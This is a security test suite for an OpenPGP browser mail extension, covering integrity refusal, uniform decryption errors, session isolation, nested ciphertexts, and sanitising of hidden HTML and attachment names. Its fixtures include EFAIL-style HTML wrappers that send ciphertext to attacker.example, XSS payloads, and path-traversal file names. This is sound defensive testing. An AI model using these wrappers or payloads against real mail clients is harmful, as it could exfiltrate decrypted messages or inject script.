/**
 * MP: message parsing and display, through the whole background read path (content script
 * opens a session, our read frame decrypts). Rows that need a rendering browser (MP-05,
 * MP-06 scripts, MP-03 in a page) are also in test/e2e/security/.
 */
import * as openpgp from 'openpgp';
import { beforeAll, describe, expect, it } from 'vitest';
import { findArmoredBlocks } from '../../src/core/armor';
import { buildEncrypted, buildMixed, safeFilename } from '../../src/core/mime';
import { pgpConfig } from '../../src/core/openpgp-config';
import { htmlToText } from '../../src/background/mail/quote';
import { FORBID_TAGS, withoutHidden } from '../../src/pages/read/sanitize-html';
import { Window as HappyWindow } from 'happy-dom';
import { expectNoLeak, readAs, readError, toAlice, world, type World } from './fixtures/background';
import { armorMessage, dearmor, HAND_CIPHERS, handMessage, pkesk, relabelSeipdAsSed } from './fixtures/messages';
import { unlockPrivateKey } from '../../src/core/keys/protect';
import { PASS } from '../unit/mail-background/harness';
import { compressed, concat, literal, oldPacket, packet, partialPacket, sedBody, seipdV1Body, sessionKey, TAG } from './fixtures/packets';
import { TOOLS, toolEncrypt, type GpgCipher } from './fixtures/tools';

let w: World;
beforeAll(async () => {
  w = await world();
}, 180_000);

const SECRET = 'SECRET-7f3a-do-not-render';

/** Every integrity failure is this exact error: no detail that could act as an oracle. */
async function expectRefused(armored: string, marker = SECRET): Promise<void> {
  const err = await readError(w, 'message', armored);
  expect({ code: err.code, detail: err.detail }).toEqual({ code: 'DECRYPT_FAILED', detail: undefined });
  expect(JSON.stringify(err)).not.toContain(marker);
  expectNoLeak(w, marker);
}

describe('MP-01: ciphertext without integrity protection is refused, whatever the cipher', () => {
  it('MP-01: the hand-made control (SEIPD v1 with a good MDC) decrypts, so the writer is sound', async () => {
    for (const cipher of HAND_CIPHERS) {
      const bytes = await handMessage(w.k.alicePublic, { cipher, integrity: 'seipd-good', text: `control ${cipher}` });
      expect((await readAs(w, 'message', armorMessage(bytes))).text).toBe(`control ${cipher}`);
    }
  });

  it.each(HAND_CIPHERS)('MP-01: old SED packet (tag 9), %s, refused with no plaintext', async (cipher) => {
    const bytes = await handMessage(w.k.alicePublic, { cipher, integrity: 'sed', text: SECRET });
    // The fixture really is decryptable by a permissive reader: only the policy stops it.
    const permissive = await openpgp.decrypt({
      message: await openpgp.readMessage({ binaryMessage: bytes }),
      decryptionKeys: await aliceUnlocked(),
      config: { allowUnauthenticatedMessages: true },
    });
    expect(permissive.data).toBe(SECRET);
    await expectRefused(armorMessage(bytes));
  });

  it.each(HAND_CIPHERS)('MP-01: SEIPD v1 with the MDC stripped, %s', async (cipher) => {
    await expectRefused(armorMessage(await handMessage(w.k.alicePublic, { cipher, integrity: 'seipd-no-mdc', text: SECRET })));
  });

  it.each(HAND_CIPHERS)('MP-01: SEIPD v1 with a wrong MDC, %s', async (cipher) => {
    await expectRefused(armorMessage(await handMessage(w.k.alicePublic, { cipher, integrity: 'seipd-wrong-mdc', text: SECRET })));
  });

  it('MP-01: SED and MDC-less SEIPD in partial body lengths and in old-format headers', async () => {
    const key = sessionKey('aes256');
    const head = await pkesk(w.k.alicePublic, 'aes256', key);
    const inner = concat(literal(SECRET.repeat(200)));
    const bodies = [
      partialPacket(TAG.sed, sedBody('aes256', key, inner)),
      oldPacket(TAG.sed, sedBody('aes256', key, inner)),
      partialPacket(TAG.seipd, seipdV1Body('aes256', key, inner, 'none')),
      partialPacket(TAG.seipd, seipdV1Body('aes256', key, inner, 'wrong')),
    ];
    for (const body of bodies) await expectRefused(armorMessage(concat(head, body)));
    // Control: the same framing with a good MDC decrypts.
    expect((await readAs(w, 'message', armorMessage(concat(head, partialPacket(TAG.seipd, seipdV1Body('aes256', key, inner, 'good')))))).text).toBe(SECRET.repeat(200));
  });

  it.each(TOOLS)('MP-01: a %s message relabelled from SEIPD to SED', async (tool) => {
    const armored = await toolEncrypt(tool, w.k.alicePublic.armor(), SECRET);
    expect((await readAs(w, 'message', armored)).text).toBe(SECRET); // control: the tool's message is fine
    await expectRefused(armorMessage(relabelSeipdAsSed(await dearmor(armored))));
  });

  it.each<GpgCipher>(['AES128', '3DES'])('MP-01: a gpg %s message relabelled to SED', async (cipher) => {
    const armored = await toolEncrypt('gpg', w.k.alicePublic.armor(), SECRET, cipher);
    await expectRefused(armorMessage(relabelSeipdAsSed(await dearmor(armored))));
  });

  it('MP-01: the policy has no "show anyway": unauthenticated messages and streams are off', () => {
    expect(pgpConfig.allowUnauthenticatedMessages).toBe(false);
    expect(pgpConfig.allowUnauthenticatedStream).toBe(false);
    expect(Object.isFrozen(pgpConfig)).toBe(true);
  });
});

describe('MP-02: bit-flipped or truncated ciphertext gives one identical error', () => {
  const BIG = 2 * 1024 * 1024;

  async function variants(bytes: Uint8Array): Promise<string[]> {
    const out: Uint8Array[] = [];
    for (const at of [bytes.length - 1, bytes.length - 17, bytes.length - 40, Math.floor(bytes.length / 2), bytes.length - BIG + 64]) {
      const f = bytes.slice();
      f[at]! ^= 0x01;
      out.push(f);
    }
    for (const cut of [1, 16, 22, 1000, Math.floor(bytes.length / 3)]) out.push(bytes.slice(0, bytes.length - cut));
    return out.map(armorMessage);
  }

  it.each([
    ['SEIPD v1 (OpenPGP.js)', false],
    ['SEIPD v2 AEAD (OpenPGP.js)', true],
  ])('MP-02: %s, 2 MB, flips and truncations anywhere', async (_name, v2) => {
    const bytes = await toAlice(w, `${SECRET}\n${'x'.repeat(BIG)}`, { v2 });
    const errors = new Set<string>();
    for (const armored of await variants(bytes)) {
      const err = await readError(w, 'message', armored);
      errors.add(JSON.stringify({ code: err.code, detail: err.detail ?? null }));
    }
    expect([...errors]).toEqual([JSON.stringify({ code: 'DECRYPT_FAILED', detail: null })]);
    expectNoLeak(w, SECRET);
  });

  it.each(TOOLS)('MP-02: a 2 MB %s message (partial body lengths) flipped and truncated', async (tool) => {
    const bytes = await dearmor(await toolEncrypt(tool, w.k.alicePublic.armor(), `${SECRET}\n${'y'.repeat(BIG)}`));
    for (const armored of await variants(bytes)) await expectRefused(armored);
  });

  it('MP-02: an AEAD tag flipped in the last chunk and in the final authentication tag', async () => {
    const bytes = await toAlice(w, SECRET.repeat(10), { v2: true });
    for (const back of [1, 16, 17, 32]) {
      const f = bytes.slice();
      f[f.length - back]! ^= 0x80;
      await expectRefused(armorMessage(f));
    }
  });
});

describe('MP-03: plaintext never reaches the page', () => {
  const wrappers = (armored: string): string[] => [
    `<img src="https://attacker.example/?${armored}">`,
    `<form action="https://attacker.example/"><textarea name="x">${armored}</textarea></form>`,
    `<a href="https://attacker.example/?q=\n${armored}\n">x</a>`,
    `<style>body{background:url("https://attacker.example/?${armored}`,
  ];

  it('MP-03: an armored block wrapped in exfiltrating HTML is found alone, decrypted only for our frame', async () => {
    const armored = armorMessage(await toAlice(w, SECRET));
    for (const page of wrappers(armored)) {
      const blocks = findArmoredBlocks(page).filter((b) => b.kind === 'message' && !b.problem);
      expect(blocks).toHaveLength(1);
      const block = blocks[0]!.armored;
      // The block handed to the background holds no attacker markup around it.
      expect(block).not.toMatch(/attacker|<|>/);
      const opened = await w.h.content('openReadSession', { adapter: 'generic', kind: 'message', armored: block, sender: null });
      const { sessionId } = opened;
      expect(JSON.stringify(opened)).not.toContain(SECRET);
      const r = await w.h.frame('read.html', sessionId, 'decryptReadSession', { sessionId, passphrase: null });
      expect(r.text).toBe(SECRET);
      // The content script's own requests about that session never return plaintext.
      expect(JSON.stringify(await w.h.content('closeSession', { sessionId }))).not.toContain(SECRET);
      expectNoLeak(w, SECRET);
    }
  });

  it('MP-03: neither the content script nor a frame in another tab can read a session', async () => {
    const armored = armorMessage(await toAlice(w, SECRET));
    const { sessionId } = await w.h.content('openReadSession', { adapter: 'generic', kind: 'message', armored, sender: null });
    const req = { sessionId, passphrase: null };
    expect(await w.h.codeOf(w.h.content('decryptReadSession' as 'closeSession', req as never))).toBe('FORBIDDEN');
    expect(await w.h.codeOf(w.h.content('decryptReadSession' as 'closeSession', req as never, w.h.senders.content(2)))).toBe('FORBIDDEN');
    expect(await w.h.codeOf(w.h.frame('read.html', sessionId, 'decryptReadSession', req, 2))).not.toBe('ok');
    expect(await w.h.codeOf(w.h.frame('compose.html', sessionId, 'decryptReadSession', req))).not.toBe('ok');
    expectNoLeak(w, SECRET);
  });
});

describe('MP-04: nested ciphertexts are never auto-decrypted', () => {
  const NESTED = 'NESTED-OLD-SECRET';

  it('MP-04: armor in text, in HTML, as a PGP/MIME part and in an attached mail: counted, not decrypted', async () => {
    const old = armorMessage(await toAlice(w, NESTED));
    const htmlPart = `Content-Type: text/html; charset=utf-8\r\n\r\n<p>hi</p><div style="display:none"><pre>${old}</pre></div>`;
    const inners = [
      `Look at this:\n\n${old}\n`,
      htmlPart,
      `Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nouter\r\n--b\r\n${buildEncrypted(old)}\r\n--b--\r\n`,
      `Content-Type: multipart/alternative; boundary="a"\r\n\r\n--a\r\nContent-Type: text/plain\r\n\r\n${old}\r\n--a\r\n${htmlPart}\r\n--a--\r\n`,
      buildMixed('see attached', [{ filename: 'old.asc', data: new TextEncoder().encode(old), contentType: 'application/pgp-encrypted' }]),
    ];
    for (const inner of inners) {
      const r = await readAs(w, 'message', armorMessage(await toAlice(w, inner)));
      expect(JSON.stringify(r)).not.toContain(NESTED);
      expect(r.nestedEncrypted + r.attachments.length).toBeGreaterThan(0);
    }
  });
});

describe('MP-06: hostile names and HTML attachments', () => {
  it('MP-06: hostile attachment file names are neutralised', () => {
    const names = ['../../etc/passwd', '<img src=x onerror=alert(1)>.html', 'invoice\u202Efdp.exe', 'a'.repeat(5000), 'CON', 'x\u0000y.txt', '..', '.bashrc', 'a/b\\c:d*e?.txt'];
    for (const name of names) {
      const safe = safeFilename(name, 'attachment');
      expect(safe).not.toMatch(/[/\\<>:*?"\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
      expect(safe.length).toBeLessThanOrEqual(255);
      expect(safe).not.toMatch(/^\.+$/);
    }
  });

  it('MP-06: an HTML attachment is an attachment, never rendered; its name is made safe', async () => {
    const html = '<script>alert(1)</script><img src=x onerror=alert(2)>';
    const inner = buildMixed('body', [{ filename: '<b>page</b>.html', data: new TextEncoder().encode(html), contentType: 'text/html' }]);
    const r = await readAs(w, 'message', armorMessage(await toAlice(w, inner)));
    expect(r.html).toBeNull();
    expect(r.attachments).toHaveLength(1);
    expect(r.attachments[0]!.name).not.toMatch(/[<>]/);
  });
});

describe('MP-07: a reply quotes only what was shown, as plain text', () => {
  it('MP-07: markup, scripts and styles never reach the quote', () => {
    const q = htmlToText('<style>.x{}</style><script>steal()</script><p>Hello <b>Bob</b></p><img src="https://evil.example/x">');
    expect(q).toBe('Hello Bob');
  });

  // One fixture per hiding technique: the old text must be neither shown nor quoted, and the
  // quote must equal what the read frame keeps (sanitiser's withoutHidden, same rule).
  const HIDDEN_FIXTURES: Record<string, string> = {
    'display:none': '<div style="display:none">OLD-SECRET</div>',
    'DISPLAY : NONE !important, after a comment': '<div style="color:red; DISPLAY : /*x*/ NONE !important">OLD-SECRET</div>',
    'visibility:hidden': '<span style="visibility:hidden">OLD-SECRET</span>',
    'font-size:0': '<p style="font-size:0px">OLD-SECRET</p>',
    'font shorthand 0': '<p style="font:0/0 a">OLD-SECRET</p>',
    'opacity:0': '<p style="opacity:0.0">OLD-SECRET</p>',
    'hidden attribute': '<section hidden>OLD-SECRET</section>',
    'white on default white': '<p style="color:#FFF">OLD-SECRET</p>',
    'near-white on white': '<p style="color:rgb(250, 251, 252)">OLD-SECRET</p>',
    'colour equal to an ancestor background': '<div style="background:#123456 none"><p><span style="color:#123456">OLD-SECRET</span></p></div>',
    'bgcolor table and font color': '<table bgcolor="black"><tr><td><font color="#000000">OLD-SECRET</font></td></tr></table>',
    'transparent text': '<span style="color:transparent">OLD-SECRET</span>',
    'zero height, overflow hidden': '<div style="height:0;overflow:hidden">OLD-SECRET</div>',
    'far-off position': '<div style="position:absolute;left:-9999px">OLD-SECRET</div>',
    'text-indent far off': '<div style="text-indent:-10000em">OLD-SECRET</div>',
    'clip rect 0': '<div style="position:absolute;clip:rect(0 0 0 0)">OLD-SECRET</div>',
    'scale(0)': '<div style="transform:scale(0)">OLD-SECRET</div>',
    'nested in a hidden parent, reopened by a child': '<div style="display:none"><p style="display:block">OLD-SECRET</p></div>',
    'hidden paragraph closed implicitly by the next block': '<p style="display:none">OLD-SECRET<div>after</div>',
    'inside <style> and <template>': '<style>OLD-SECRET</style><template>OLD-SECRET</template>',
  };

  it('MP-07: text hidden by CSS or attributes is never quoted (one fixture per technique)', () => {
    for (const [name, hidden] of Object.entries(HIDDEN_FIXTURES)) {
      const q = htmlToText(`<p>SHOWN-BEFORE</p>${hidden}<p>SHOWN-AFTER</p>`);
      expect(q, name).toContain('SHOWN-BEFORE');
      expect(q, name).toContain('SHOWN-AFTER');
      expect(q, name).not.toContain('OLD-SECRET');
    }
  });

  it('MP-07: the read frame removes the same elements, so shown text = quoted text', () => {
    const win = new HappyWindow() as unknown as Window & typeof globalThis;
    const letters = (t: string) => t.replace(/\s+/g, '');
    for (const [name, hidden] of Object.entries(HIDDEN_FIXTURES)) {
      // (<style>/<template> are removed by DOMPurify's FORBID_TAGS before this step.)
      if (name.startsWith('inside <style>')) continue;
      const html = `<p>SHOWN-BEFORE</p>${hidden}<p>SHOWN-AFTER</p>`;
      const doc = new win.DOMParser().parseFromString(`<body>${withoutHidden(html, win)}`, 'text/html');
      const shown = doc.body.textContent ?? '';
      expect(shown, name).not.toContain('OLD-SECRET');
      // textContent joins blocks without a separator: compare the characters shown.
      expect(letters(shown), name).toBe(letters(htmlToText(html)));
    }
    // Class rules could hide text the quote cannot judge: <style> never reaches the frame.
    expect(FORBID_TAGS).toContain('style');
    expect(htmlToText('<style>.h{display:none}</style><p class="h">visible once styles are gone</p>')).toBe('visible once styles are gone');
  });

  it('MP-07: an encrypted HTML mail with hidden old text: the reply quote has only the shown text', async () => {
    const old = armorMessage(await toAlice(w, 'OLD-MAIL-SECRET'));
    const body = `<p>new mail</p><div style="display:none">OLD-MAIL-SECRET ${old}</div><p style="color:#fff">OLD-MAIL-SECRET</p>`;
    const inner = `Content-Type: text/html; charset=utf-8\r\n\r\n${body}\r\n`;
    const r = await readAs(w, 'message', armorMessage(await toAlice(w, inner)));
    expect(r.html).not.toBeNull();
    // What mail-compose's reply quote does with an HTML body.
    expect(htmlToText(r.html ?? '')).toBe('new mail');
  });

  it('MP-07: a cid: part of multipart/related is not quoted text', async () => {
    const inner = `Content-Type: multipart/related; boundary="r"\r\n\r\n--r\r\nContent-Type: text/html\r\n\r\n<p>new mail</p><img src="cid:old@x">\r\n--r\r\nContent-Type: text/plain\r\nContent-ID: <old@x>\r\n\r\nOLD-MAIL-SECRET\r\n--r--\r\n`;
    const r = await readAs(w, 'message', armorMessage(await toAlice(w, inner)));
    expect(htmlToText(r.html ?? r.text ?? '')).toBe('new mail');
    expect(r.text ?? '').not.toContain('OLD-MAIL-SECRET');
  });

  it('MP-07: a message/rfc822 part carrying an old ciphertext is an attachment, not quoted text', async () => {
    const old = armorMessage(await toAlice(w, 'OLD-MAIL-SECRET'));
    const inner = `Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nnew mail\r\n--m\r\nContent-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\nSubject: old\r\n\r\n${old}\r\n--m--\r\n`;
    const r = await readAs(w, 'message', armorMessage(await toAlice(w, inner)));
    expect(r.text).toBe('new mail');
    expect(JSON.stringify(r)).not.toContain('OLD-MAIL-SECRET');
  });
});

describe('MP-08: grammar violations around and inside the encrypted packet are rejected', () => {
  it('MP-08: literal data outside the encrypted packet (before, after, between)', async () => {
    const good = await handMessage(w.k.alicePublic, { cipher: 'aes256', integrity: 'seipd-good', text: 'inside' });
    const stray = literal(SECRET);
    for (const bytes of [concat(good, stray), concat(stray, good), concat(good, good)]) {
      await expectRefused(armorMessage(bytes));
    }
  });

  it('MP-08: inside the encrypted packet: two literals, literal + garbage, compressed pair, lone one-pass-signature', async () => {
    // (Packet tags 40–63 are non-critical and ignored by design, RFC 9580 §4.3: not a violation.)
    const inners: Record<string, Uint8Array> = {
      'two literals': concat(literal('first'), literal(SECRET)),
      'literal + critical unknown packet (tag 30)': concat(literal(SECRET), packet(30, Uint8Array.of(1, 2, 3))),
      'literal + public-key packet': concat(literal(SECRET), packet(6, Uint8Array.of(4, 0, 0, 0, 0, 22))),
      'compressed pair of literals': compressed(concat(literal(SECRET), literal('second'))),
      'one-pass signature without its signature': concat(packet(TAG.onePassSignature, Uint8Array.of(3, 0, 10, 22, 1, 2, 3, 4, 5, 6, 7, 8, 1)), literal(SECRET)),
      'MDC packet before the literal': concat(packet(TAG.mdc, new Uint8Array(20)), literal(SECRET)),
      'nested SEIPD inside SEIPD': concat(packet(TAG.seipd, Uint8Array.of(1, 0, 0, 0)), literal(SECRET)),
    };
    const accepted: string[] = [];
    for (const [name, inner] of Object.entries(inners)) {
      const err = await w.h.errorOf(readAs(w, 'message', armorMessage(await handMessage(w.k.alicePublic, { cipher: 'aes256', integrity: 'seipd-good', inner })))).catch(() => null);
      if (err === null || err.code !== 'DECRYPT_FAILED' || err.detail !== undefined) accepted.push(name);
    }
    expect(accepted).toEqual([]);
    expectNoLeak(w, SECRET);
  });
});

describe('MP-09: foreign armor in drafts and quotes', () => {
  it('MP-09: a ciphertext to me and someone else, or signed by someone else, is never opened as my draft', async () => {
    const draftShaped = JSON.stringify({ cachetDraft: '1', text: SECRET, recipients: { to: [], cc: [], bcc: [] }, mode: 'encrypt' });
    const toBoth = await openpgp.encrypt({ message: await openpgp.createMessage({ text: draftShaped }), encryptionKeys: [w.k.alicePublic, w.k.bobPublic] });
    const signedByBob = await openpgp.encrypt({ message: await openpgp.createMessage({ text: draftShaped }), encryptionKeys: w.k.alicePublic, signingKeys: w.k.bobPrivate });
    for (const quotedArmored of [toBoth, signedByBob]) {
      const { sessionId } = await w.h.content('openComposeSession', { adapter: 'generic', recipients: { to: [], cc: [], bcc: [] }, sender: 'alice@example.org', quotedArmored });
      const view = await w.h.frame('compose.html', sessionId, 'getComposeSession', { sessionId });
      // maybeDraft is a hint from key IDs only; the draft itself must still be refused.
      if (quotedArmored === toBoth) expect('maybeDraft' in view).toBe(false);
      expect(await w.h.frame('compose.html', sessionId, 'openComposeDraft', { sessionId, passphrase: null })).toMatchObject({ draft: null });
      expectNoLeak(w, SECRET);
    }
  });

  it('MP-09: the content script cannot attach files or keys: no such message exists for it', async () => {
    for (const type of ['attachFile', 'attachKey', 'addAttachment', 'importKeys', 'commitImport']) {
      expect(await w.h.codeOf(w.h.content(type as 'closeSession', { sessionId: 'x' }))).toMatch(/FORBIDDEN|UNKNOWN_MESSAGE/);
    }
  });
});

/** Alice's secret key unlocked, for the permissive-reader control only. */
async function aliceUnlocked(): Promise<openpgp.PrivateKey> {
  const { armored } = await w.h.page('exportKey', { fingerprint: w.k.alice.fingerprint, kind: 'private', passphrase: null });
  return unlockPrivateKey(armored, PASS);
}
